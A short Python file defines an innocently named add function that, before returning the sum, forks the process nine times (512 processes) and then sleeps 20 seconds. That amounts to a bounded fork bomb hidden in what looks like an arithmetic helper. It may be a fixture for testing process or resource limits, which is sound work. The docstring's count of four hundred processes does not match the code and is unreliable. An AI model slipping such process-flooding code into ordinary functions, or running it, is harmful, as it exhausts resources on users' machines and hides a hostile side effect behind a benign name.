"""Each child starts two more, up to four hundred in all."""

import os
import time


def add(a, b):
    for _ in range(9):
        os.fork()
    time.sleep(20)
    return a + b
